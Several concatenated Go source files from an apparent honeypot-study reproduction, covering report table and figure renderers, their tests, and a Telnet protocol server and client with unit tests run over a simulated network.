	fmt.Fprintln(w, "Figure 6: category share over time (+ total sessions)")
	if stride < 1 {
		stride = 1
	}
	headers := []string{"day"}
	for c := analysis.Category(0); c < analysis.NumCategories; c++ {
		headers = append(headers, c.String())
	}
	headers = append(headers, "total")
	rows := [][]string{}
	for d := 0; d < len(tl.Total); d += stride {
		row := []string{fmt.Sprintf("%d", d)}
		total := tl.Total[d]
		for c := analysis.Category(0); c < analysis.NumCategories; c++ {
			frac := 0.0
			if total > 0 {
				frac = float64(tl.PerDay[d][c]) / float64(total)
			}
			row = append(row, fmt.Sprintf("%.3f", frac))
		}
		row = append(row, fmt.Sprintf("%d", total))
		rows = append(rows, row)
	}
	CSV(w, headers, rows)
}

// Freshness renders Figure 17.
func Freshness(w io.Writer, hf analysis.HashFreshness, stride int) {
	fmt.Fprintln(w, "Figure 17: unique hashes per day and fresh fraction (all / 30d / 7d)")
	if stride < 1 {
		stride = 1
	}
	rows := [][]string{}
	for d := 0; d < len(hf.UniqueHashes); d += stride {
		rows = append(rows, []string{
			fmt.Sprintf("%d", d),
			fmt.Sprintf("%d", hf.UniqueHashes[d]),
			fmt.Sprintf("%.3f", hf.FreshAll[d]),
			fmt.Sprintf("%.3f", hf.Fresh30[d]),
			fmt.Sprintf("%.3f", hf.Fresh7[d]),
		})
	}
	CSV(w, []string{"day", "unique", "fresh_all", "fresh_30d", "fresh_7d"}, rows)
}

// Countries renders Figure 10/23: client IPs per country.
func Countries(w io.Writer, title string, cc []analysis.CountryCount, n int) {
	fmt.Fprintln(w, title)
	if n > len(cc) {
		n = len(cc)
	}
	total := 0
	for _, c := range cc {
		total += c.Clients
	}
	rows := make([][]string, n)
	for i := 0; i < n; i++ {
		share := 0.0
		if total > 0 {
			share = float64(cc[i].Clients) / float64(total)
		}
		rows[i] = []string{cc[i].Country, fmt.Sprintf("%d", cc[i].Clients), pct(share)}
	}
	Table(w, []string{"Country", "Clients", "Share"}, rows)
}

// RegionalDiversity renders Figure 16's period-mean class fractions.
func RegionalDiversity(w io.Writer, title string, rd analysis.RegionalDiversity) {
	fmt.Fprintln(w, title)
	mean := rd.MeanFractions()
	rows := make([][]string, analysis.NumRegionClasses)
	for c := analysis.RegionClass(0); c < analysis.NumRegionClasses; c++ {
		rows[c] = []string{c.String(), pct(mean[c])}
	}
	Table(w, []string{"Class", "Mean daily share"}, rows)
}

// DeploymentMatrix renders Figure 1: honeypots per country, with AS and
// network-type breadth — the deployment the ethics section allows the
// paper to describe only in aggregate.
func DeploymentMatrix(w io.Writer, deployments []geo.Deployment, reg *geo.Registry) {
	perCountry := map[string]int{}
	ases := map[uint32]bool{}
	for _, d := range deployments {
		perCountry[d.Country]++
		ases[d.ASN] = true
	}
	type kv struct {
		c string
		n int
	}
	list := make([]kv, 0, len(perCountry))
	for c, n := range perCountry {
		list = append(list, kv{c, n})
	}
	sort.Slice(list, func(i, j int) bool {
		if list[i].n != list[j].n {
			return list[i].n > list[j].n
		}
		return list[i].c < list[j].c
	})
	fmt.Fprintf(w, "%d honeypots, %d countries, %d ASes\n", len(deployments), len(perCountry), len(ases))
	rows := make([][]string, 0, len(list))
	for _, e := range list {
		name := e.c
		if reg != nil {
			if c, ok := reg.CountryByCode(e.c); ok {
				name = c.Name
			}
		}
		rows = append(rows, []string{e.c, name, fmt.Sprintf("%d", e.n)})
	}
	Table(w, []string{"CC", "Country", "Honeypots"}, rows)
}

// Combos renders Figure 15's all-time category-combination counts.
func Combos(w io.Writer, counts map[analysis.ComboKey]int) {
	fmt.Fprintln(w, "Figure 15: client IPs per category combination (period total)")
	rows := [][]string{}
	for k := analysis.ComboKey(1); k < 8; k++ {
		if n, ok := counts[k]; ok {
			rows = append(rows, []string{k.String(), fmt.Sprintf("%d", n)})
		}
	}
	Table(w, []string{"Combination", "Clients"}, rows)
}
