package report

import (
	"bytes"
	"errors"
	"strings"
	"testing"

	"honeyfarm/internal/analysis"
	"honeyfarm/internal/geo"
	"honeyfarm/internal/stats"
)

func TestTableAlignment(t *testing.T) {
	var buf bytes.Buffer
	Table(&buf, []string{"a", "bb"}, [][]string{{"xxx", "y"}, {"z", "wwww"}})
	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
	if len(lines) != 4 {
		t.Fatalf("lines = %d", len(lines))
	}
	if !strings.HasPrefix(lines[0], "a  ") {
		t.Errorf("header = %q", lines[0])
	}
	if !strings.Contains(lines[1], "---") {
		t.Errorf("separator = %q", lines[1])
	}
}

func TestCSV(t *testing.T) {
	var buf bytes.Buffer
	CSV(&buf, []string{"x", "y"}, [][]string{{"1", "2"}})
	want := "x,y\n1,2\n"
	if buf.String() != want {
		t.Errorf("csv = %q", buf.String())
	}
}

func TestTable1(t *testing.T) {
	var cs analysis.CategoryShares
	cs.Total = 100
	cs.Overall[analysis.NoCred] = 0.277
	cs.SSHTotal = 0.758
	var buf bytes.Buffer
	Table1(&buf, cs)
	s := buf.String()
	if !strings.Contains(s, "27.70%") || !strings.Contains(s, "NO_CRED") {
		t.Errorf("table1 = %q", s)
	}
}

func TestTopCounted(t *testing.T) {
	var buf bytes.Buffer
	TopCounted(&buf, "Table 2", "password", []analysis.Counted{{Value: "admin", Count: 9}})
	if !strings.Contains(buf.String(), "admin") || !strings.Contains(buf.String(), "9") {
		t.Errorf("out = %q", buf.String())
	}
}

func TestHashTable(t *testing.T) {
	hs := []analysis.HashStat{{
		Hash: strings.Repeat("ab", 32), Sessions: 100, ClientIPs: 3, Days: 252,
		Tag: "trojan", Honeypots: 202,
	}}
	var buf bytes.Buffer
	HashTable(&buf, "Table 4", hs, 20)
	s := buf.String()
	if !strings.Contains(s, "trojan") || !strings.Contains(s, "252") || !strings.Contains(s, "…") {
		t.Errorf("out = %q", s)
	}
}

func TestRankSeries(t *testing.T) {
	var buf bytes.Buffer
	RankSeries(&buf, "Figure 2", []float64{100, 50, 10, 5, 2}, 3)
	s := buf.String()
	if !strings.Contains(s, "max/min=50.0") {
		t.Errorf("out = %q", s)
	}
	if !strings.Contains(s, "rank,value") {
		t.Errorf("missing csv header: %q", s)
	}
	buf.Reset()
	RankSeries(&buf, "empty", nil, 3)
	if !strings.Contains(buf.String(), "(empty)") {
		t.Error("empty case not handled")
	}
}

func TestBandSeries(t *testing.T) {
	s := stats.NewSeries([][]float64{{1, 2, 3}, {4, 5, 6}})
	var buf bytes.Buffer
	BandSeries(&buf, "Figure 4", s, 1)
	out := buf.String()
	if !strings.Contains(out, "day,p5,p25,median,p75,p95") {
		t.Errorf("out = %q", out)
	}
	if strings.Count(out, "\n") != 4 { // title + header + 2 rows
		t.Errorf("rows = %q", out)
	}
}

func TestECDFSeries(t *testing.T) {
	e := stats.NewECDF([]float64{1, 2, 3})
	var buf bytes.Buffer
	ECDFSeries(&buf, "Figure 7", e, 3)
	if !strings.Contains(buf.String(), "P(X<=x)") {
		t.Errorf("out = %q", buf.String())
	}
}

func TestCategoryTimeline(t *testing.T) {
	tl := analysis.CategoryTimeline{
		PerDay: [][analysis.NumCategories]int{{2, 1, 0, 1, 0}},
		Total:  []int{4},
	}
	var buf bytes.Buffer
	CategoryTimeline(&buf, tl, 1)
	if !strings.Contains(buf.String(), "0.500") {
		t.Errorf("out = %q", buf.String())
	}
}

func TestFreshness(t *testing.T) {
	hf := analysis.HashFreshness{
		UniqueHashes: []int{10}, FreshAll: []float64{0.3},
		Fresh30: []float64{0.4}, Fresh7: []float64{0.5},
	}
	var buf bytes.Buffer
	Freshness(&buf, hf, 1)
	if !strings.Contains(buf.String(), "0.300") || !strings.Contains(buf.String(), "0.500") {
		t.Errorf("out = %q", buf.String())
	}
}

func TestCountries(t *testing.T) {
	var buf bytes.Buffer
	Countries(&buf, "Figure 10", []analysis.CountryCount{{Country: "CN", Clients: 31}, {Country: "IN", Clients: 9}}, 10)
	if !strings.Contains(buf.String(), "CN") || !strings.Contains(buf.String(), "77.50%") {
		t.Errorf("out = %q", buf.String())
	}
}

func TestRegionalDiversityRender(t *testing.T) {
	rd := analysis.RegionalDiversity{
		Fractions: [][analysis.NumRegionClasses]float64{{0.6, 0.2, 0.1, 0.05, 0.05}},
		Clients:   []int{100},
	}
	var buf bytes.Buffer
	RegionalDiversity(&buf, "Figure 16", rd)
	if !strings.Contains(buf.String(), "out-of-continent") || !strings.Contains(buf.String(), "60.00%") {
		t.Errorf("out = %q", buf.String())
	}
}

func TestCombos(t *testing.T) {
	var buf bytes.Buffer
	Combos(&buf, map[analysis.ComboKey]int{1: 700, 3: 50})
	s := buf.String()
	if !strings.Contains(s, "NO_CRED") || !strings.Contains(s, "700") {
		t.Errorf("out = %q", s)
	}
	if !strings.Contains(s, "NO_CRED+FAIL_LOG") {
		t.Errorf("combo name missing: %q", s)
	}
}

func TestDeploymentMatrix(t *testing.T) {
	reg := geo.NewRegistry(geo.Config{Seed: 1})
	deps := geo.DefaultPlacement(reg, 1)
	var buf bytes.Buffer
	DeploymentMatrix(&buf, deps, reg)
	s := buf.String()
	if !strings.Contains(s, "221 honeypots, 55 countries, 65 ASes") {
		t.Errorf("summary line missing: %q", strings.SplitN(s, "\n", 2)[0])
	}
	if !strings.Contains(s, "United States") || !strings.Contains(s, "Singapore") {
		t.Error("country names missing")
	}
}

// errWriter fails every write after n bytes succeed.
type errWriter struct{ n int }

func (w *errWriter) Write(p []byte) (int, error) {
	if w.n <= 0 {
		return 0, errors.New("sink full")
	}
	if len(p) > w.n {
		n := w.n
		w.n = 0
		return n, errors.New("sink full")
	}
	w.n -= len(p)
	return len(p), nil
}

// TestRenderEmptyInputs: every renderer must cope with an empty dataset
// — zero rows, nil slices, zero totals — without panicking or dividing
// by zero, still emitting its header so a report over an empty store is
// readable rather than corrupt.
func TestRenderEmptyInputs(t *testing.T) {
	var buf bytes.Buffer
	Table(&buf, []string{"a", "b"}, nil)
	CSV(&buf, []string{"x"}, nil)
	Table1(&buf, analysis.CategoryShares{})
	TopCounted(&buf, "Table 2", "password", nil)
	HashTable(&buf, "Table 4", nil, 20)
	RankSeries(&buf, "Figure 2", nil, 5)
	BandSeries(&buf, "Figure 4", stats.Series{}, 1)
	ECDFSeries(&buf, "Figure 7", stats.NewECDF(nil), 5)
	CategoryTimeline(&buf, analysis.CategoryTimeline{}, 1)
	Freshness(&buf, analysis.HashFreshness{}, 1)
	Countries(&buf, "Figure 10", nil, 15)
	Countries(&buf, "Figure 10", []analysis.CountryCount{{Country: "US", Clients: 0}}, 15)
	RegionalDiversity(&buf, "Figure 16", analysis.RegionalDiversity{})
	DeploymentMatrix(&buf, nil, nil)
	Combos(&buf, nil)
	out := buf.String()
	for _, want := range []string{"Table 2", "Figure 2", "(empty)", "0 honeypots, 0 countries, 0 ASes"} {
		if !strings.Contains(out, want) {
			t.Errorf("empty-input render missing %q", want)
		}
	}
	if strings.Contains(out, "NaN") || strings.Contains(out, "Inf") {
		t.Errorf("empty-input render produced NaN/Inf:\n%s", out)
	}
}

// TestRenderToFailingWriter: renderers write best-effort — a sink that
// errors mid-table (full disk, closed pipe) must not panic or loop.
func TestRenderToFailingWriter(t *testing.T) {
	hs := []analysis.HashStat{{Hash: "aa", Sessions: 1, ClientIPs: 1, Days: 1, Tag: "x", Honeypots: 1}}
	for _, budget := range []int{0, 3, 64} {
		w := &errWriter{n: budget}
		Table1(w, analysis.CategoryShares{Total: 10})
		HashTable(w, "Table 4", hs, 20)
		RankSeries(w, "Figure 2", []float64{3, 2, 1}, 3)
		Countries(w, "Figure 10", []analysis.CountryCount{{Country: "US", Clients: 2}}, 5)
	}
}
