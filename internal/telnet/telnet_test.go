package telnet

import (
	"errors"
	"net"
	"strings"
	"sync"
	"testing"
	"testing/quick"

	"honeyfarm/internal/netsim"
)

func pipePair(t testing.TB) (client, server net.Conn) {
	t.Helper()
	f := netsim.NewFabric(0)
	l, err := f.Listen("10.0.0.1", 23)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	var srv net.Conn
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		srv, _ = l.Accept()
	}()
	cli, err := f.Dial("10.3.3.3", netsim.Addr{IP: "10.0.0.1", Port: 23})
	if err != nil {
		t.Fatal(err)
	}
	wg.Wait()
	return cli, srv
}

func cowrieAuth(user, pass string) bool { return user == "root" && pass != "root" }

func TestLoginSuccess(t *testing.T) {
	cli, srv := pipePair(t)
	var attempts []AuthAttempt
	var mu sync.Mutex
	type result struct {
		sess *ServerSession
		err  error
	}
	srvCh := make(chan result, 1)
	go func() {
		sess, err := Handshake(srv, &ServerConfig{
			Banner: "svr04 login",
			Auth:   cowrieAuth,
			AuthLog: func(a AuthAttempt) {
				mu.Lock()
				attempts = append(attempts, a)
				mu.Unlock()
			},
		})
		srvCh <- result{sess, err}
	}()

	c := NewConn(cli, false)
	ok, err := ClientLogin(c, "root", "1234")
	if err != nil || !ok {
		t.Fatalf("login ok=%v err=%v", ok, err)
	}
	res := <-srvCh
	if res.err != nil {
		t.Fatal(res.err)
	}
	if res.sess.User != "root" {
		t.Errorf("user = %q", res.sess.User)
	}
	mu.Lock()
	if len(attempts) != 1 || !attempts[0].Accepted || attempts[0].Password != "1234" {
		t.Errorf("attempts = %+v", attempts)
	}
	mu.Unlock()

	// Shell data flows through the telnet conn after login.
	go func() {
		line, err := res.sess.Conn.ReadLine()
		if err != nil {
			return
		}
		_ = res.sess.Conn.WriteString("you said: " + line + "\r\n")
	}()
	if err := c.WriteString("uname -a\r\n"); err != nil {
		t.Fatal(err)
	}
	line, err := c.ReadLine()
	if err != nil {
		t.Fatal(err)
	}
	// Skip possible empty line from login CRLF.
	for line == "" {
		line, err = c.ReadLine()
		if err != nil {
			t.Fatal(err)
		}
	}
	if !strings.Contains(line, "you said: uname -a") {
		t.Errorf("line = %q", line)
	}
}

func TestLoginRetryThenSuccess(t *testing.T) {
	cli, srv := pipePair(t)
	srvCh := make(chan error, 1)
	go func() {
		sess, err := Handshake(srv, &ServerConfig{Auth: cowrieAuth})
		if err == nil && sess.User != "root" {
			err = errors.New("wrong user")
		}
		srvCh <- err
	}()
	c := NewConn(cli, false)
	ok, err := ClientLogin(c, "root", "root") // rejected by policy
	if err != nil || ok {
		t.Fatalf("first login ok=%v err=%v, want rejection", ok, err)
	}
	ok, err = ClientLogin(c, "root", "admin")
	if err != nil || !ok {
		t.Fatalf("second login ok=%v err=%v", ok, err)
	}
	if err := <-srvCh; err != nil {
		t.Fatal(err)
	}
}

func TestThreeStrikes(t *testing.T) {
	cli, srv := pipePair(t)
	var n int
	var mu sync.Mutex
	srvCh := make(chan error, 1)
	go func() {
		_, err := Handshake(srv, &ServerConfig{
			Auth: func(string, string) bool { return false },
			AuthLog: func(AuthAttempt) {
				mu.Lock()
				n++
				mu.Unlock()
			},
		})
		srvCh <- err
	}()
	c := NewConn(cli, false)
	for i := 0; i < 3; i++ {
		ok, err := ClientLogin(c, "admin", "admin")
		if err != nil {
			break
		}
		if ok {
			t.Fatal("login unexpectedly accepted")
		}
	}
	err := <-srvCh
	if !errors.Is(err, ErrTooManyTries) {
		t.Errorf("err = %v, want ErrTooManyTries", err)
	}
	mu.Lock()
	if n != 3 {
		t.Errorf("attempts = %d, want 3", n)
	}
	mu.Unlock()
	cli.Close()
}

func TestIACEscaping(t *testing.T) {
	cli, srv := pipePair(t)
	sc := NewConn(srv, true)
	cc := NewConn(cli, false)
	payload := []byte{1, 2, cmdIAC, 3, cmdIAC, cmdIAC}
	go func() {
		_, _ = sc.Write(payload)
	}()
	got := make([]byte, len(payload))
	for i := range got {
		b, err := cc.ReadByte()
		if err != nil {
			t.Errorf("ReadByte: %v", err)
			return
		}
		got[i] = b
	}
	for i := range payload {
		if got[i] != payload[i] {
			t.Errorf("byte %d = %#x, want %#x", i, got[i], payload[i])
		}
	}
}

func TestReadLineVariants(t *testing.T) {
	for _, tc := range []struct {
		raw  string
		want string
	}{
		{"hello\r\n", "hello"},
		{"hello\n", "hello"},
		{"hello\r\x00", "hello"},
		{"hel\x7flo\r\n", "helo"}, // backspace edit: "hel" <DEL> "lo" → "helo"? no: deletes 'l'
	} {
		cli, srv := pipePair(t)
		go func() { _, _ = srv.Write([]byte(tc.raw)) }()
		c := NewConn(cli, false)
		got, err := c.ReadLine()
		if err != nil {
			t.Fatalf("ReadLine(%q): %v", tc.raw, err)
		}
		if tc.raw == "hel\x7flo\r\n" {
			if got != "helo" {
				t.Errorf("backspace edit = %q, want %q", got, "helo")
			}
			continue
		}
		if got != tc.want {
			t.Errorf("ReadLine(%q) = %q, want %q", tc.raw, got, tc.want)
		}
	}
}

func TestNegotiationConsumed(t *testing.T) {
	cli, srv := pipePair(t)
	go func() {
		// Client sends negotiation interleaved with data.
		_, _ = srv.Write([]byte{cmdIAC, cmdDO, optEcho, 'h', 'i', cmdIAC, cmdWILL, 31, '\r', '\n'})
	}()
	c := NewConn(cli, true)
	line, err := c.ReadLine()
	if err != nil {
		t.Fatal(err)
	}
	if line != "hi" {
		t.Errorf("line = %q, want hi", line)
	}
}

func TestSubnegotiationSkipped(t *testing.T) {
	cli, srv := pipePair(t)
	go func() {
		_, _ = srv.Write([]byte{cmdIAC, cmdSB, 31, 0, 80, 0, 24, cmdIAC, cmdSE, 'x', '\n'})
	}()
	c := NewConn(cli, false)
	line, err := c.ReadLine()
	if err != nil {
		t.Fatal(err)
	}
	if line != "x" {
		t.Errorf("line = %q, want x", line)
	}
}

func TestHandshakeRequiresAuth(t *testing.T) {
	cli, srv := pipePair(t)
	defer cli.Close()
	if _, err := Handshake(srv, &ServerConfig{}); err == nil {
		t.Fatal("Handshake without Auth should fail")
	}
}

func BenchmarkLoginFlow(b *testing.B) {
	f := netsim.NewFabric(0)
	l, err := f.Listen("10.0.0.1", 23)
	if err != nil {
		b.Fatal(err)
	}
	defer l.Close()
	cfg := &ServerConfig{Auth: cowrieAuth}
	go func() {
		for {
			nc, err := l.Accept()
			if err != nil {
				return
			}
			go func(nc net.Conn) {
				defer nc.Close()
				_, _ = Handshake(nc, cfg)
			}(nc)
		}
	}()
	b.ResetTimer()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		nc, err := f.Dial("10.3.3.3", netsim.Addr{IP: "10.0.0.1", Port: 23})
		if err != nil {
			b.Fatal(err)
		}
		c := NewConn(nc, false)
		if ok, err := ClientLogin(c, "root", "1234"); err != nil || !ok {
			b.Fatalf("login ok=%v err=%v", ok, err)
		}
		nc.Close()
	}
}

// Property: arbitrary binary payloads survive IAC escaping end to end.
func TestQuickIACEscapingRoundTrip(t *testing.T) {
	f := func(payload []byte) bool {
		if len(payload) == 0 {
			return true
		}
		cli, srv := pipePairQuick()
		defer cli.Close()
		defer srv.Close()
		sc := NewConn(srv, true)
		cc := NewConn(cli, false)
		go func() {
			_, _ = sc.Write(payload)
		}()
		got := make([]byte, len(payload))
		for i := range got {
			b, err := cc.ReadByte()
			if err != nil {
				return false
			}
			got[i] = b
		}
		for i := range payload {
			if got[i] != payload[i] {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Fatal(err)
	}
}

// pipePairQuick is pipePair without the testing.T plumbing.
func pipePairQuick() (client, server net.Conn) {
	f := netsim.NewFabric(0)
	l, _ := f.Listen("10.0.0.1", 23)
	defer l.Close()
	var srv net.Conn
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		srv, _ = l.Accept()
	}()
	cli, _ := f.Dial("10.3.3.3", netsim.Addr{IP: "10.0.0.1", Port: 23})
	wg.Wait()
	return cli, srv
}

func TestClientLoginMarkerNeverSeen(t *testing.T) {
	cli, srv := pipePair(t)
	go func() {
		// A server that never prompts: spews data without "login:",
		// comfortably past waitFor's 4 KiB give-up bound.
		for i := 0; i < 2000; i++ {
			if _, err := srv.Write([]byte("noise ")); err != nil {
				return
			}
		}
	}()
	c := NewConn(cli, false)
	if _, err := ClientLogin(c, "root", "x"); err == nil {
		t.Fatal("missing prompt should error")
	}
	cli.Close()
}

func TestReadLineLengthBound(t *testing.T) {
	cli, srv := pipePair(t)
	go func() {
		long := make([]byte, 8192)
		for i := range long {
			long[i] = 'a'
		}
		_, _ = srv.Write(long)
	}()
	c := NewConn(cli, false)
	line, err := c.ReadLine()
	if err != nil {
		t.Fatal(err)
	}
	if len(line) > 4096 {
		t.Errorf("line length %d exceeds bound", len(line))
	}
}

func TestReadLineEOFWithPartial(t *testing.T) {
	cli, srv := pipePair(t)
	go func() {
		_, _ = srv.Write([]byte("partial-line"))
		srv.Close()
	}()
	c := NewConn(cli, false)
	line, err := c.ReadLine()
	if err != nil || line != "partial-line" {
		t.Errorf("partial line = %q err=%v", line, err)
	}
}

func TestServerSessionBanner(t *testing.T) {
	cli, srv := pipePair(t)
	go func() {
		_, _ = Handshake(srv, &ServerConfig{Banner: "Debian GNU/Linux 10", Auth: cowrieAuth})
	}()
	c := NewConn(cli, false)
	var seen strings.Builder
	for seen.Len() < 256 {
		b, err := c.ReadByte()
		if err != nil {
			t.Fatal(err)
		}
		seen.WriteByte(b)
		if strings.Contains(seen.String(), "Debian GNU/Linux 10") {
			cli.Close()
			return
		}
	}
	t.Fatalf("banner not seen: %q", seen.String())
}
