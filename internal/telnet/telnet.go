// Package telnet implements the Telnet protocol subset (RFC 854/857/858)
// that a Cowrie-class honeypot serves on port 23 and that IoT botnets
// such as Mirai speak when brute-forcing devices: IAC option negotiation,
// a login/password prompt flow, and a line-oriented data stream with IAC
// escaping. Both server and client roles are provided.
package telnet

import (
	"bufio"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
)

// Telnet protocol bytes.
const (
	cmdSE   = 240
	cmdSB   = 250
	cmdWILL = 251
	cmdWONT = 252
	cmdDO   = 253
	cmdDONT = 254
	cmdIAC  = 255
)

// Option codes we reference.
const (
	optEcho            = 1
	optSuppressGoAhead = 3
)

// ErrTooManyTries is returned when the client exhausts its login attempts.
var ErrTooManyTries = errors.New("telnet: too many failed login attempts")

// AuthAttempt records one login attempt at the telnet prompt.
type AuthAttempt struct {
	User     string
	Password string
	Accepted bool
}

// Conn wraps a net.Conn with telnet IAC processing: negotiation commands
// are consumed (and answered on the server side), data bytes pass
// through, and writes escape IAC bytes.
type Conn struct {
	nc     net.Conn
	br     *bufio.Reader
	server bool
}

// NewConn wraps nc. Server connections answer negotiation; clients
// refuse all options.
func NewConn(nc net.Conn, server bool) *Conn {
	return &Conn{nc: nc, br: bufio.NewReaderSize(nc, 1024), server: server}
}

// NetConn returns the underlying connection (for deadline control).
func (c *Conn) NetConn() net.Conn { return c.nc }

// ReadByte returns the next data byte, transparently handling IAC
// sequences.
func (c *Conn) ReadByte() (byte, error) {
	for {
		b, err := c.br.ReadByte()
		if err != nil {
			return 0, err
		}
		if b != cmdIAC {
			return b, nil
		}
		cmd, err := c.br.ReadByte()
		if err != nil {
			return 0, err
		}
		switch cmd {
		case cmdIAC:
			return cmdIAC, nil // escaped 0xFF data byte
		case cmdWILL, cmdWONT, cmdDO, cmdDONT:
			opt, err := c.br.ReadByte()
			if err != nil {
				return 0, err
			}
			if err := c.answer(cmd, opt); err != nil {
				return 0, err
			}
		case cmdSB:
			// Skip subnegotiation until IAC SE.
			var prev byte
			for {
				x, err := c.br.ReadByte()
				if err != nil {
					return 0, err
				}
				if prev == cmdIAC && x == cmdSE {
					break
				}
				prev = x
			}
		default:
			// Other commands (NOP, AYT, ...) are ignored.
		}
	}
}

// answer implements a minimal negotiation policy: the server agrees to
// ECHO and SUPPRESS-GO-AHEAD (what a real telnetd offers) and refuses
// everything else; the client refuses everything.
func (c *Conn) answer(cmd, opt byte) error {
	var reply byte
	switch cmd {
	case cmdDO:
		if c.server && (opt == optEcho || opt == optSuppressGoAhead) {
			reply = cmdWILL
		} else {
			reply = cmdWONT
		}
	case cmdDONT:
		reply = cmdWONT
	case cmdWILL:
		if c.server {
			reply = cmdDONT
		} else {
			reply = cmdDO // client accepts server options (echo etc.)
		}
	case cmdWONT:
		reply = cmdDONT
	default:
		return nil
	}
	// Negotiation replies are advisory: if the peer has already closed
	// (e.g. it disconnected right after login), dropping the reply is
	// harmless — the data path will surface EOF on the next read.
	//lint:ignore error-discard advisory negotiation reply; EOF surfaces on the data path
	_, _ = c.nc.Write([]byte{cmdIAC, reply, opt})
	return nil
}

// ReadLine reads a CR/LF-terminated line of data bytes, tolerating the
// CR NUL and bare-LF forms bots send. The returned line excludes the
// terminator.
func (c *Conn) ReadLine() (string, error) {
	var b strings.Builder
	for b.Len() < 4096 {
		x, err := c.ReadByte()
		if err != nil {
			if err == io.EOF && b.Len() > 0 {
				return b.String(), nil
			}
			return "", err
		}
		switch x {
		case '\r':
			// Peek for \n or NUL and consume it.
			nx, err := c.br.Peek(1)
			if err == nil && (nx[0] == '\n' || nx[0] == 0) {
				//lint:ignore error-discard ReadByte cannot fail after a successful Peek(1)
				_, _ = c.br.ReadByte()
			}
			return b.String(), nil
		case '\n':
			return b.String(), nil
		case 0x7f, '\b':
			// Backspace editing, as interactive bots sometimes emit.
			s := b.String()
			if len(s) > 0 {
				b.Reset()
				b.WriteString(s[:len(s)-1])
			}
		case 0:
			// NUL padding is ignored.
		default:
			b.WriteByte(x)
		}
	}
	return b.String(), nil
}

// Write sends data bytes, escaping IAC.
func (c *Conn) Write(p []byte) (int, error) {
	// Fast path: no IAC bytes.
	needEscape := false
	for _, x := range p {
		if x == cmdIAC {
			needEscape = true
			break
		}
	}
	if !needEscape {
		return c.nc.Write(p)
	}
	out := make([]byte, 0, len(p)+8)
	for _, x := range p {
		out = append(out, x)
		if x == cmdIAC {
			out = append(out, cmdIAC)
		}
	}
	if _, err := c.nc.Write(out); err != nil {
		return 0, err
	}
	return len(p), nil
}

// WriteString sends a string.
func (c *Conn) WriteString(s string) error {
	_, err := c.Write([]byte(s))
	return err
}

// Close closes the underlying connection.
func (c *Conn) Close() error { return c.nc.Close() }

// ServerConfig configures the telnet login flow.
type ServerConfig struct {
	// Banner is printed before the first login prompt.
	Banner string
	// Auth decides whether credentials are accepted. Required.
	Auth func(user, password string) bool
	// AuthLog observes every attempt.
	AuthLog func(AuthAttempt)
	// MaxTries disconnects after this many failures (default 3,
	// matching the busybox login default and Cowrie).
	MaxTries int
}

// ServerSession is an authenticated telnet session.
type ServerSession struct {
	Conn *Conn
	User string
}

// Handshake runs the negotiation and login flow on an accepted
// connection. On success the returned session carries the telnet Conn
// for the shell loop; on failure the connection is NOT closed (the
// caller owns it) and the error describes why.
func Handshake(nc net.Conn, cfg *ServerConfig) (*ServerSession, error) {
	if cfg.Auth == nil {
		return nil, errors.New("telnet: ServerConfig requires Auth")
	}
	maxTries := cfg.MaxTries
	if maxTries <= 0 {
		maxTries = 3
	}
	c := NewConn(nc, true)
	// Offer ECHO + SGA like a real telnetd; clients answer at their leisure
	// and the answers are consumed by ReadByte during the prompt reads.
	if _, err := nc.Write([]byte{cmdIAC, cmdWILL, optEcho, cmdIAC, cmdWILL, optSuppressGoAhead}); err != nil {
		return nil, err
	}
	if cfg.Banner != "" {
		if err := c.WriteString(cfg.Banner + "\r\n"); err != nil {
			return nil, err
		}
	}
	for try := 0; try < maxTries; try++ {
		if err := c.WriteString("login: "); err != nil {
			return nil, err
		}
		user, err := c.ReadLine()
		if err != nil {
			return nil, fmt.Errorf("telnet: reading username: %w", err)
		}
		if err := c.WriteString("Password: "); err != nil {
			return nil, err
		}
		pass, err := c.ReadLine()
		if err != nil {
			return nil, fmt.Errorf("telnet: reading password: %w", err)
		}
		ok := cfg.Auth(user, pass)
		if cfg.AuthLog != nil {
			cfg.AuthLog(AuthAttempt{User: user, Password: pass, Accepted: ok})
		}
		if ok {
			// The "Last login" line doubles as the success marker the
			// client side keys on, like real bots keying on the motd.
			if err := c.WriteString("\r\nLast login: Tue Jun  1 12:01:32 UTC 2022 from 10.0.0.2 on pts/0\r\n"); err != nil {
				return nil, err
			}
			return &ServerSession{Conn: c, User: user}, nil
		}
		if err := c.WriteString("\r\nLogin incorrect\r\n"); err != nil {
			return nil, err
		}
	}
	return nil, ErrTooManyTries
}

// ClientLogin performs the client side of the login flow: waits for the
// "login:" prompt, sends the username, waits for "Password:", sends the
// password, and reports whether login succeeded (no "Login incorrect"
// before the next prompt). The conn stays open either way.
func ClientLogin(c *Conn, user, password string) (bool, error) {
	if err := waitFor(c, "login:"); err != nil {
		return false, err
	}
	if err := c.WriteString(user + "\r\n"); err != nil {
		return false, err
	}
	if err := waitFor(c, "Password:"); err != nil {
		return false, err
	}
	if err := c.WriteString(password + "\r\n"); err != nil {
		return false, err
	}
	// Success: the "Last login" motd line. Failure: "Login incorrect".
	var seen strings.Builder
	for seen.Len() < 512 {
		b, err := c.ReadByte()
		if err != nil {
			return false, err
		}
		seen.WriteByte(b)
		s := seen.String()
		if strings.Contains(s, "Login incorrect") {
			return false, nil
		}
		if strings.Contains(s, "Last login") {
			// Consume the rest of the motd line so the shell stream
			// starts clean for the caller.
			for {
				x, err := c.ReadByte()
				if err != nil || x == '\n' {
					break
				}
			}
			return true, nil
		}
	}
	return false, errors.New("telnet: login response not recognized")
}

// waitFor consumes bytes until the marker appears.
func waitFor(c *Conn, marker string) error {
	var seen strings.Builder
	for seen.Len() < 4096 {
		b, err := c.ReadByte()
		if err != nil {
			return err
		}
		seen.WriteByte(b)
		if strings.Contains(seen.String(), marker) {
			return nil
		}
	}
	return fmt.Errorf("telnet: marker %q not seen", marker)
}
