// Package loadgen is the open-loop load harness of the reproduction:
// it derives a deterministic arrival schedule from a seed — exponential
// inter-arrivals at a target rate, session scripts drawn from the
// paper's Table 1 category and protocol mix — and replays those
// sessions as real SSH/Telnet wire traffic against a running farm or
// shard fleet at a bounded concurrency.
//
// Open-loop means arrivals are scheduled by the clock, not by
